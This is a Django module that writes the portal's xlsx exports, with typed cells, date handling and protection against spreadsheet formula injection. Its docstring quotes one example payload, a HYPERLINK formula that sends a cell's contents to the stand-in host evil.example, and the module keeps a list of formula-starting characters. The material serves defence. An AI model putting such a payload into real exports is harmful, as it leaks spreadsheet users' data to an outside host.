"""The one xlsx writer of the portal: every export, template and error file goes through it.

Exports are data, not text (issue 15):
- a boolean is «Да» / «Нет»;
- a number is a number (int, float, Decimal), with a number format — never «-1,57» as text;
- a date or a datetime is an Excel date in the portal's time zone (``TIME_ZONE``), shown as
  ДД.ММ.ГГГГ (ЧЧ:ММ) — never a UTC ISO string;
- one value per cell: a list is refused (the caller gives each value its column), a
  dictionary too (a programming error the test over every export catches).

Text is neutralised against formula injection (OWASP «CSV injection»): a text that begins
with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return is written with a leading single
quote, as a string cell, so no spreadsheet program reads it as a formula — e.g. a participant
registered as «=HYPERLINK("http://evil.example/?"&A1,"Иванова")» stays that text.

The sheet: a bold shaded header, frozen first row, filters on, fitted widths."""

import datetime
import io
from collections.abc import Iterable, Sequence
from decimal import Decimal

from django.db import models
from django.http import HttpResponse
from django.utils import timezone
from django.utils.encoding import force_str
from django.utils.html import strip_tags
from django.utils.safestring import SafeData
from django.utils.text import slugify
from django.utils.translation import gettext
from openpyxl import Workbook
from openpyxl.cell.cell import TYPE_STRING
from openpyxl.styles import Alignment, Font, PatternFill
from openpyxl.utils import get_column_letter

XLSX_MIME = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
HEADER_FILL = PatternFill("solid", fgColor="1F4E79")
HEADER_FONT = Font(bold=True, color="FFFFFF")

# What a spreadsheet program may take for the start of a formula (OWASP).
FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")
INT_FORMAT = "0"
FLOAT_FORMAT = "0.0#"
DATE_FORMAT = "DD.MM.YYYY"
DATETIME_FORMAT = "DD.MM.YYYY HH:MM"
TIME_FORMAT = "HH:MM"
MAX_WIDTH = 60


def neutralise(text: str) -> str:
    """``text`` that no spreadsheet program evaluates: a leading ``'`` where it could start a
    formula (OWASP)."""
    return "'" + text if text.startswith(FORMULA_PREFIXES) else text


def unneutralise(text: str) -> str:
    """The text ``neutralise`` was given: for files the portal writes and reads back (the
    roadmap template, the attendance list)."""
    if text.startswith("'") and text[1:].startswith(FORMULA_PREFIXES):
        return text[1:]
    return text


def cell_value(value) -> tuple[object, str | None]:
    """The value as it goes into a cell and its number format."""
    if value is None or value == "":
        return None, None
    if isinstance(value, bool):
        return (gettext("Yes") if value else gettext("No")), None
    if isinstance(value, int):
        return value, INT_FORMAT
    if isinstance(value, float | Decimal):
        return float(value), FLOAT_FORMAT
    if isinstance(value, datetime.datetime):
        if timezone.is_aware(value):
            value = timezone.localtime(value)  # the portal's zone, as the pages show it
        return value.replace(tzinfo=None, microsecond=0), DATETIME_FORMAT
    if isinstance(value, datetime.date):
        return value, DATE_FORMAT
    if isinstance(value, datetime.time):
        return value.replace(tzinfo=None), TIME_FORMAT
    if isinstance(value, dict | list | tuple | set):
        raise TypeError(f"one value per cell: give each part of {type(value).__name__} a column of its own")
    if isinstance(value, models.Model):
        value = str(value)
    text = force_str(value)
    if isinstance(value, SafeData):  # rendered HTML: its text
        text = strip_tags(text)
    return neutralise(text), None


def write_sheet(ws, headers: Sequence[str], rows: Iterable[Sequence]) -> None:
    ws.append([neutralise(force_str(h)) for h in headers])
    widths = [len(force_str(h)) for h in headers]
    for r, row in enumerate(rows, start=2):
        for c, raw in enumerate(row, start=1):
            value, number_format = cell_value(raw)
            if value is None:
                continue
            cell = ws.cell(row=r, column=c)
            cell.value = value
            if number_format:
                cell.number_format = number_format
                shown = len(f"{value:.2f}") if number_format == FLOAT_FORMAT else len(str(value))
                if number_format in (DATE_FORMAT, DATETIME_FORMAT, TIME_FORMAT):
                    shown = len(number_format)
            else:
                cell.data_type = TYPE_STRING  # never a formula, whatever openpyxl would guess
                shown = len(value)
            if c <= len(widths):
                widths[c - 1] = max(widths[c - 1], min(shown, MAX_WIDTH))
            else:
                widths.append(min(shown, MAX_WIDTH))
    for cell in ws[1]:
        cell.font = HEADER_FONT
        cell.fill = HEADER_FILL
        cell.alignment = Alignment(wrap_text=True, vertical="center")
    for i, width in enumerate(widths, start=1):
        ws.column_dimensions[get_column_letter(i)].width = width + 2
    ws.freeze_panes = "A2"
    if headers:
        ws.auto_filter.ref = f"A1:{get_column_letter(len(headers))}{max(ws.max_row, 1)}"


def workbook_bytes(sheets: dict[str, tuple[Sequence[str], Iterable[Sequence]]]) -> bytes:
    wb = Workbook()
    wb.remove(wb.active)
    for title, (headers, rows) in sheets.items():
        write_sheet(wb.create_sheet(_sheet_title(title)), headers, rows)
    buf = io.BytesIO()
    wb.save(buf)
    return buf.getvalue()


def _sheet_title(title) -> str:
    """A sheet name Excel accepts: at most 31 characters, none of ``[]:*?/\\``."""
    text = force_str(title)
    for ch in "[]:*?/\\":
        text = text.replace(ch, " ")
    return text.strip()[:31] or "Sheet"


def xlsx_file_response(content: bytes, filename: str) -> HttpResponse:
    """An xlsx download named ``filename`` (made safe, any script)."""
    response = HttpResponse(content, content_type=XLSX_MIME)
    safe = slugify(filename, allow_unicode=True) or "export"
    response["Content-Disposition"] = f"attachment; filename*=UTF-8''{_quote(safe)}.xlsx"
    return response


def xlsx_response(
    filename: str, headers: Sequence[str], rows: Iterable[Sequence], sheet: str = "Данные"
) -> HttpResponse:
    return xlsx_file_response(workbook_bytes({sheet: (headers, rows)}), filename)


def _quote(name: str) -> str:
    from urllib.parse import quote

    return quote(name)


# --- django-tables2 tables as data ----------------------------------------------------------


def _declares(column, method: str) -> bool:
    """Whether ``column``'s class (not django-tables2's own) defines ``method``."""
    for cls in type(column).__mro__:
        if method in cls.__dict__:
            return not cls.__module__.startswith("django_tables2")
    return False


def _raw(row, bound_column):
    """The cell's data as stored (a choice field's label), before any rendering."""
    return row._get_and_render_with(bound_column, render_func=lambda _bc, value=None: value, default=None)


def export_value(table, row, bound_column):
    """A cell of a table for the xlsx, by what says what the cell means: the table's
    ``value_<name>``, else the column's own ``value`` (e.g. a percentage as a number), else —
    where the cell is only rendered (``render_<name>``, a template) — its text, else the data
    itself (a bool, a number, a date), never the text a page shows for it."""
    import django_tables2 as tables
    from django_tables2.utils import call_with_appropriate

    name, column = bound_column.name, bound_column.column
    if hasattr(table, f"value_{name}"):
        return _text_of(row.get_cell_value(name))
    if _declares(column, "value"):
        return row._get_and_render_with(
            bound_column,
            render_func=lambda bc, value=None: call_with_appropriate(
                column.value, row._optional_cell_arguments(bc, value)
            ),
            default=None,
        )
    rendered_only = (
        hasattr(table, f"render_{name}")
        or _declares(column, "render")
        or (
            isinstance(column, tables.TemplateColumn)
            and not isinstance(column, tables.DateColumn | tables.DateTimeColumn | tables.TimeColumn)
        )
    )
    if rendered_only:
        return _text_of(row.get_cell_value(name))
    value = _raw(row, bound_column)
    if isinstance(value, models.Manager):  # a many-to-many column
        return ", ".join(str(item) for item in value.all())
    return value


def _text_of(value):
    return strip_tags(value) if isinstance(value, SafeData) else value


def table_rows(table) -> tuple[list[str], list[list]]:
    """Headers and rows of a django-tables2 table as data (all pages, the same order and
    filters; columns hidden on the page but not excluded from export are included)."""
    columns = [bc for bc in table.columns.iterall() if not bc.column.exclude_from_export]
    headers = [force_str(bc.header) for bc in columns]
    return headers, [[export_value(table, row, bc) for bc in columns] for row in table.rows]
